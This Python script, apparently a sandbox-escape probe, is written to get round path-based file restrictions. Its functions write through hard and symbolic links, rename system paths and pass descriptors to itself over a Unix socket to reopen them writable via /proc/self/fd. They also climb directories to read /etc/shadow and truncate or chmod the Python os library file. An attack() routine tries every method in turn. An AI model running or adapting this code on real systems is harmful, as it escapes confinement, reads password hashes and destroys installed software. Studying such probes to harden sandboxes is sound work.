"""Gets round path rules: links, renames, descriptors of folders, descriptors sent to itself."""

import array
import os
import socket

OUTSIDE = "/tmp/lab/precious/keep"
LIBRARY = os.__file__


def through_itself(descriptor):
    """The same descriptor, received again."""
    ours, theirs = socket.socketpair()
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [descriptor]))]
    ours.sendmsg([b"x"], rights)
    _, ancillary, _, _ = theirs.recvmsg(1, 64)
    return array.array("i", ancillary[0][2])[0]


def write_by_path_descriptor(path):
    held = through_itself(os.open(path, os.O_PATH))
    with open(os.open(f"/proc/self/fd/{held}", os.O_WRONLY), "wb") as file:
        file.write(b"")


def up_from_folder():
    held = os.open(".", os.O_PATH | os.O_DIRECTORY)
    for _ in range(20):
        held = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=held)
    with open(os.open("etc/shadow", os.O_RDONLY, dir_fd=held)) as file:
        file.read()


def link_and_write(path):
    os.link(path, "linked")
    os.chmod("linked", 0o666)
    with open("linked", "r+b") as file:
        file.write(file.read(1))


def symbolic_link_and_write(path):
    os.symlink(path, "symbolic")
    with open("symbolic", "r+b") as file:
        file.write(file.read(1))


def attack():
    attempts = [
        lambda: link_and_write(LIBRARY),
        lambda: link_and_write(OUTSIDE),
        lambda: symbolic_link_and_write(LIBRARY),
        lambda: symbolic_link_and_write(OUTSIDE),
        lambda: os.rename(LIBRARY, "renamed"),
        lambda: os.rename("/usr/lib", "/tmp/renamed"),
        lambda: write_by_path_descriptor(LIBRARY),
        lambda: write_by_path_descriptor(OUTSIDE),
        lambda: os.open("/usr/lib", os.O_TMPFILE | os.O_RDWR, 0o600),
        lambda: os.truncate(through_itself(os.open(LIBRARY, os.O_RDONLY)), 0),
        lambda: os.fchmod(through_itself(os.open(LIBRARY, os.O_RDONLY)), 0o777),
        up_from_folder,
    ]
    done = False
    for attempt in attempts:
        try:
            attempt()
            done = True
        except (OSError, IndexError):
            continue
    return done
